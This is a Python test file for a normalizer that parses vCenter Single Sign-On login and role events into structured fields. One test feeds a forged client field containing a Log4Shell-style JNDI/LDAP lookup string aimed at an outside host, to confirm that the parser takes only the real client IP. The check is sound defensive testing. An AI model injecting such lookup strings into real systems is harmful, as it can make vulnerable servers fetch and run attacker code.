"""Who is let into vCenter, in Single Sign-On's words; what clients claim about themselves."""

from collections.abc import Callable
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from normalize.vsphere_sso import is_sso, object_in, set_sso, time_of
from samlog.event import Event

One = Callable[..., Event]
LOGIN = {
    "user": "liv@vsphere.local",
    "client": "192.0.2.10",
    "timestamp": "01/10/2026 12:37:01 UTC",
    "description": "User liv@vsphere.local@192.0.2.10 failed to log in",
    "eventSeverity": "INFO",
    "type": "com.vmware.sso.LoginFailure",
}


@pytest.mark.parametrize(
    "line",
    [
        "{}",
        "2026-01-10T12:37:01.123Z {}",
        "<14>1 2026-01-10T12:37:01.123Z vc1 audit - - -  {}",
        "[2026-01-10T12:37:01.123Z tomcat-http--7 INFO auditlogger] {}",
    ],
)
def test_a_refused_login_is_read_however_it_comes(one: One, line: str) -> None:
    written = orjson.dumps(LOGIN).decode()
    event = one(line.replace("{}", written))
    assert (event["event.action"], event["event.outcome"]) == ("login", "failure")
    assert (event["user.name"], event["user.domain"]) == ("liv", "vsphere.local")
    assert (event["source.ip"], event["event.dataset"]) == ("192.0.2.10", "vsphere.log")


def test_the_client_is_the_last_one_for_the_others_it_wrote_itself(one: One) -> None:
    forged = LOGIN | {"client": "${jndi:ldap://203.0.113.66/a}, 192.0.2.10"}
    assert one(orjson.dumps(forged))["source.ip"] == "192.0.2.10"


def test_rights_are_told_from_other_events(one: One) -> None:
    head = "<14>1 2026-01-10T12:37:05Z vc1 vpxd 5 - -  Event [5] [1-1] [2026-01-10T12:37:05Z] "
    event = one(head + "[vim.event.RoleAddedEvent] [info] [D\\liv] [] [5] [Role x created]")
    assert (event["event.category"], event["user.name"]) == (["iam"], "liv")
    other = one(head + "[vim.event.AlarmCreatedEvent] [info] [D\\liv] [] [5] [Alarm created]")
    assert "event.category" not in other


@given(
    st.dictionaries(
        st.sampled_from([*LOGIN]),
        st.none()
        | st.integers(-(2**63), 2**63 - 1)
        | st.text(max_size=40)
        | st.lists(st.text(max_size=3)),
    )
)
def test_no_object_breaks_the_reader(changes: dict[str, Any]) -> None:
    record = LOGIN | changes
    event: Event = {}
    if is_sso(record):
        set_sso(event, record)
        time_of(record)
        assert event["vsphere.log.event_type"] == record["type"]
    assert object_in(orjson.dumps(record).decode()[:-1]) is None
